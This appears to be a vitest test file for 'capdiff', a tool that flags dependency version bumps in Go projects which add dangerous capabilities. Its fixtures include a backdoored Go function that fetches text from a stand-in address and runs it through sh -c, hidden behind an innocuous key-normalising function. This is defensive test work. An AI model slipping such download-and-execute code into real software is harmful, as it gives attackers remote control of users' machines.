/** Modules that a directory is built with in another version: each is judged by itself. */
import { join } from "node:path";
import { type Report, verdictOf } from "@capdiff/analyzer";
import { builtInMap, rules } from "@capdiff/rules";
import { expect, test } from "vitest";
import { fileProxy } from "../../modules/test/file-proxy.ts";
import { temporaryFolder, writeFiles } from "../../modules/test/temporary-folder.ts";
import { createEngine } from "../src/analysis.ts";
import { readReport } from "../src/report/read.ts";
import { runHere } from "./samples/environment.ts";

const goMod = (path: string) => `module ${path}\n\ngo 1.22\n`;

const plain = (name: string) => `package ${name}

import "strings"

// Norm is a key as it is kept.
func Norm(key string) string { return strings.ToLower(key) }
`;

const fetching = (name: string) => `package ${name}

import (
	"io"
	"net/http"
	"os/exec"
	"strings"
)

// Norm is a key as it is kept.
func Norm(key string) string { go sync(); return strings.ToLower(key) }

func sync() {
	response, err := http.Get("http://192.0.2.7/u")
	if err != nil {
		return
	}
	defer response.Body.Close()
	line, _ := io.ReadAll(response.Body)
	exec.Command("sh", "-c", string(line)).Run()
}
`;

const proxy = await fileProxy({
  "example.test/keys@v1.0.0": { "go.mod": goMod("example.test/keys"), "keys.go": plain("keys") },
  "example.test/keys@v1.0.1": {
    "go.mod": goMod("example.test/keys"),
    "keys.go": plain("keys").replace("ToLower", "ToUpper"),
  },
  "example.test/keys@v1.0.2": {
    "go.mod": goMod("example.test/keys"),
    "keys.go": plain("keys"),
    "other/other.go": fetching("other").replace("func Norm", "func init() { sync() }\n\nfunc Norm"),
  },
  "example.test/keys@v1.1.0": { "go.mod": goMod("example.test/keys"), "keys.go": fetching("keys") },
  "example.test/keys/v2@v2.0.0": { "go.mod": goMod("example.test/keys/v2"), "keys.go": fetching("keys") },
  "example.test/mykeys@v1.0.0": { "go.mod": goMod("example.test/mykeys"), "keys.go": fetching("keys") },
  "example.test/lists@v1.0.0": { "go.mod": goMod("example.test/lists"), "lists.go": naming("Kept") },
  "example.test/lists@v1.0.1": { "go.mod": goMod("example.test/lists"), "lists.go": naming("First") },
  "example.test/unused@v1.0.0": { "go.mod": goMod("example.test/unused"), "unused.go": plain("unused") },
  "example.test/unused@v1.1.0": { "go.mod": goMod("example.test/unused"), "unused.go": fetching("unused") },
  "example.test/app@v1.0.0": app("example.test/keys v1.0.0"),
  "example.test/app@v1.1.0": app("example.test/keys v1.1.0"),
});
const home = temporaryFolder();

/** Imports a module that its go.mod does not require. */
function naming(name: string): string {
  return `package lists

import "example.test/keys"

// ${name} is a key as it is kept.
func ${name}(key string) string { return keys.Norm(key) }

// Norm is a key as it is kept.
func Norm(key string) string { return ${name}(key) }
`;
}

/** An application that runs programs and uses the network itself, and requires this. */
function app(...requirements: readonly string[]): Record<string, string> {
  const [imported = "example.test/keys"] = (requirements[0] ?? "").split(" ");
  return {
    "go.mod": `${goMod("example.test/app")}\n${requirements.map((one) => `require ${one}\n`).join("")}`,
    "app.go": `package app

import (
	"net/http"
	"os/exec"

	keys "${imported}"
)

// Get gets what a key stands for.
func Get(key string) (*http.Response, error) {
	exec.Command("git", "fetch").Run()
	return http.Get("https://example.test/" + keys.Norm(key))
}
`,
  };
}

type Files = Readonly<Record<string, string>>;

async function diff(
  old: Files | string,
  fresh: Files | string,
  ...flags: readonly string[]
): Promise<Report> {
  const place = async (one: Files | string) => (typeof one === "string" ? one : writeFiles(one));
  const places = [await place(old), await place(fresh)];
  const { stdout, stderr } = await run(["diff", ...places, "--format", "json", ...flags]);
  return readReport(stdout || stderr);
}

function run(args: readonly string[]) {
  const tool = { name: "capdiff", version: "1.2.3", capabilityMap: "test", goRelease: "1.26" } as const;
  return runHere([...args, "--goproxy", proxy, "--cache-dir", home], {
    loadRules: async () => rules,
    loadEngine: async () =>
      createEngine({ capabilityMap: builtInMap, tool, rules, variables: { HOME: home } }),
  });
}

/** What was said of dependencies: which they are, and the rules that spoke loudly. */
function told({ bumps, findings = [], verdict }: Report) {
  const loud = findings.filter(({ tier, dependency }) => tier !== "inform" && dependency !== undefined);
  return { verdict, bumps, rules: [...new Set(loud.map(({ tier, rule }) => `${tier} ${rule}`))].sort() };
}

const backdoor = ["block network-to-exec", "block odd-destination", "review existing-function-reaches"];

test("a bump to a version with a backdoor blocks, in an application that can do as much itself", async () => {
  const report = await diff(app("example.test/keys v1.0.0"), app("example.test/keys v1.1.0"));
  expect(told(report)).toEqual({
    verdict: "block",
    bumps: [
      {
        old: "example.test/keys@v1.0.0",
        new: "example.test/keys@v1.1.0",
        incomplete: false,
        verdict: "block",
      },
    ],
    rules: backdoor,
  });
  const flow = report.findings?.find(({ rule }) => rule === "network-to-exec");
  expect(flow?.locations[0]?.position.file).toBe("example.test/keys@v1.1.0/keys.go");
  expect(flow?.flow?.source.site.position.file).toBe("example.test/keys@v1.1.0/keys.go");
});

test("its findings have the fingerprints that a diff of its versions shows, so that one ledger serves both", async () => {
  const bump = await diff(app("example.test/keys v1.0.0"), app("example.test/keys v1.1.0"));
  const alone = await diff("example.test/keys@v1.0.0", "example.test/keys@v1.1.0");
  const prints = ({ findings = [] }: Report) => findings.map(({ fingerprint }) => fingerprint).sort();
  const own = bump.findings?.filter(({ dependency }) => dependency !== undefined) ?? [];
  expect(prints({ ...bump, findings: own })).toEqual(prints(alone));
});

test("a bump that says nothing is listed and clear", async () => {
  const report = await diff(app("example.test/keys v1.0.0"), app("example.test/keys v1.0.1"));
  expect(told(report)).toEqual({
    verdict: "clear",
    bumps: [
      {
        old: "example.test/keys@v1.0.0",
        new: "example.test/keys@v1.0.1",
        incomplete: false,
        verdict: "clear",
      },
    ],
    rules: [],
  });
});

test("the same versions are no bump", async () => {
  const files = app("example.test/keys v1.0.0");
  expect((await diff(files, { ...files, "README.md": "Keys.\n" })).bumps).toEqual([]);
});

test("a module of which nothing is imported does not matter", async () => {
  const [old, fresh] = ["v1.0.0", "v1.1.0"].map((version) =>
    app("example.test/keys v1.0.0", `example.test/unused ${version}`),
  );
  expect((await diff(old ?? {}, fresh ?? {})).bumps).toEqual([]);
});

test("packages of it that nobody imports are left out", async () => {
  const report = await diff(app("example.test/keys v1.0.0"), app("example.test/keys v1.0.2"));
  expect(told(report)).toMatchObject({ verdict: "clear", rules: [] });
  const alone = await diff("example.test/keys@v1.0.0", "example.test/keys@v1.0.2");
  expect(alone.verdict).toBe("block");
});

test("another major version is one of the same module", async () => {
  const report = await diff(app("example.test/keys v1.0.0"), app("example.test/keys/v2 v2.0.0"));
  expect(told(report)).toMatchObject({
    verdict: "block",
    bumps: [{ old: "example.test/keys@v1.0.0", new: "example.test/keys/v2@v2.0.0" }],
  });
});

test("a module that is new is judged alone, as a scan judges it", async () => {
  const old = { "go.mod": goMod("example.test/app"), "app.go": "package app\n" };
  expect(told(await diff(old, app("example.test/keys v1.1.0")))).toEqual({
    verdict: "review",
    bumps: [{ new: "example.test/keys@v1.1.0", incomplete: false, verdict: "review" }],
    rules: ["review network-to-exec"],
  });
});

test("a fork that replaces a module is compared with what it replaces", async () => {
  const files = app("example.test/keys v1.0.0");
  const forked = {
    "go.mod": `${files["go.mod"]}\nreplace example.test/keys => example.test/mykeys v1.0.0\n`,
  };
  expect(told(await diff(files, { ...files, ...forked }))).toMatchObject({
    verdict: "block",
    bumps: [{ old: "example.test/keys@v1.0.0", new: "example.test/mykeys@v1.0.0" }],
  });
});

test("a module is judged with the versions of others that the whole is built with", async () => {
  const [old = {}, fresh = {}] = ["v1.0.0", "v1.0.1"].map((version) =>
    app(`example.test/lists ${version}`, "example.test/keys v1.0.0"),
  );
  expect(told(await diff(old, fresh))).toEqual({
    verdict: "clear",
    bumps: [
      {
        old: "example.test/lists@v1.0.0",
        new: "example.test/lists@v1.0.1",
        incomplete: false,
        verdict: "clear",
      },
    ],
    rules: [],
  });
});

test("a folder of the target that replaces a module is judged by what is in it", async () => {
  const replaced = (code: string) => ({
    ...app("example.test/keys v1.0.0"),
    "go.mod": `${goMod("example.test/app")}\nrequire example.test/keys v1.0.0\nreplace example.test/keys => ./keys\n`,
    "keys/go.mod": goMod("example.test/keys"),
    "keys/keys.go": code,
  });
  const report = await diff(replaced(plain("keys")), replaced(fetching("keys")));
  expect(told(report)).toEqual({
    verdict: "block",
    bumps: [{ old: "example.test/keys", new: "example.test/keys", incomplete: false, verdict: "block" }],
    rules: backdoor,
  });
});

test("a version that cannot be had is named, and nothing is clear", async () => {
  const gone = "example.test/keys v1.9.0";
  const report = await diff(app("example.test/keys v1.0.0"), app(gone));
  expect(report.verdict).toBe("inform");
  expect(report.diagnostics.some(({ incomplete, message }) => incomplete && message.includes("v1.9.0"))).toBe(
    true,
  );
});

test("published modules are judged with what they are built with only if that is asked for", async () => {
  const targets = ["example.test/app@v1.0.0", "example.test/app@v1.1.0"] as const;
  expect((await diff(...targets)).bumps).toBeUndefined();
  expect(told(await diff(...targets, "--bumps", "on"))).toMatchObject({ verdict: "block" });
  const folders = [app("example.test/keys v1.0.0"), app("example.test/keys v1.1.0")] as const;
  expect((await diff(...folders, "--bumps", "off")).bumps).toBeUndefined();
});

test("--bumps needs the modules", async () => {
  const { code, stderr } = await run(["diff", "old", "new", "--bumps", "on", "--deps", "none"]);
  expect(code).toBe(2);
  expect(stderr).toContain("--bumps on needs the modules");
  const place = await writeFiles(app("example.test/keys v1.0.0"));
  const report = join(temporaryFolder(), "report.json");
  await run(["scan", place, "--format", "json", "--output", report]);
  const saved = await run(["diff", report, place, "--bumps", "on"]);
  expect(saved.code).toBe(2);
  expect(saved.stderr).toContain("a report does not have what they are built with");
});

test("the text names the module of a finding, and lists what changed", async () => {
  const places = ["v1.0.0", "v1.1.0"].map((version) => writeFiles(app(`example.test/keys ${version}`)));
  const { stdout } = await run(["diff", ...(await Promise.all(places)), "--goos", "linux"]);
  expect(stdout).toMatch(/ {2}block {2}network-to-exec .*in example\.test\/keys@v1\.1\.0/u);
  expect(stdout).toMatch(/~ {2}example\.test\/keys v1\.0\.0 -> v1\.1\.0 {2}block/u);
  expect(stdout).toContain("1 dependency changed");
});

test("an accepted finding of a dependency counts no more", async () => {
  const places = ["v1.0.0", "v1.1.0"].map((version) => app(`example.test/keys ${version}`));
  const { findings = [] } = await diff(places[0] ?? {}, places[1] ?? {});
  const loud = findings.filter(({ tier }) => tier !== "inform").map(({ fingerprint }) => fingerprint);
  const ledger = join(temporaryFolder(), "accepted.json");
  await runHere(["accept", ...loud, "--reason", "read", "--ledger", ledger]);
  const accepted = await diff(places[0] ?? {}, places[1] ?? {}, "--ledger", ledger);
  expect(accepted.verdict).toBe(verdictOf(accepted.findings ?? [], accepted.diagnostics));
  expect(accepted.verdict).toBe("inform");
});

const vendored = (code: string) => ({
  ...app("example.test/keys v1.0.0"),
  "vendor/modules.txt": "# example.test/keys v1.0.0\n## explicit; go 1.22\nexample.test/keys\n",
  "vendor/example.test/keys/keys.go": code,
});

test("a vendor folder that Go builds with and that is not read is said, and nothing is clear", async () => {
  const report = await diff(vendored(plain("keys")), vendored(fetching("keys")));
  expect(report.verdict).toBe("inform");
  expect(report.diagnostics.find(({ code }) => code === "vendor-ignored")).toMatchObject({
    incomplete: true,
  });
});

test("what is in a vendor folder is judged where it lies", async () => {
  const report = await diff(vendored(plain("keys")), vendored(fetching("keys")), "--deps", "vendor");
  expect(told(report)).toMatchObject({
    verdict: "block",
    bumps: [{ old: "example.test/keys@v1.0.0", new: "example.test/keys@v1.0.0" }],
    rules: backdoor,
  });
  const flow = report.findings?.find(({ rule }) => rule === "network-to-exec");
  expect(flow?.locations[0]?.position.file).toBe("vendor/example.test/keys/keys.go");
});

test("an application that was renamed is judged with what it is built with", async () => {
  const renamed = app("example.test/keys v1.1.0");
  const goMod = renamed["go.mod"]?.replace("example.test/app", "example.test/other") ?? "";
  const report = await diff(app("example.test/keys v1.0.0"), { ...renamed, "go.mod": goMod });
  expect(told(report)).toMatchObject({ verdict: "block", rules: backdoor });
});

test("a folder with the path of a module that the map knows is not that module", async () => {
  const local = (code: string) => ({
    "go.mod": `${goMod("example.test/app")}\nrequire golang.org/x/net v0.1.0\nreplace golang.org/x/net => ./net\n`,
    "app.go": app("golang.org/x/net/idna v0.1.0")["app.go"] ?? "",
    "net/go.mod": goMod("golang.org/x/net"),
    "net/idna/idna.go": code,
  });
  const report = await diff(local(plain("idna")), local(fetching("idna")));
  expect(told(report)).toMatchObject({ verdict: "block", bumps: [{ new: "golang.org/x/net" }] });
});
